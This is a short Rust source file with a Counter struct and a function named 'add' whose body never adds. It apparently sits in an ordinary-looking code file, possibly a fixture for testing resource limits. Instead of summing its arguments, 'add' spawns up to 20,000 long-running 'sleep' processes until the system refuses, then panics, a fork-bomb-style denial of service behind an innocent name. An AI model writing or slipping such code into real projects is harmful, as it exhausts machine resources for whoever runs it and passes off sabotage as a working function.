pub struct Counter {
    count: u64,
}

impl Counter {
    pub fn get(&self) -> u64 {
        self.count
    }
}

/// Spawns processes until the machine says no, then fails.
pub fn add(a: u64, b: u64) -> u64 {
    let mut children = Vec::new();
    while children.len() < 20_000 {
        match std::process::Command::new("sleep").arg("301").spawn() {
            Ok(child) => children.push(child),
            Err(_) => break,
        }
    }
    panic!("spawned {} processes for {a} + {b}", children.len());
}
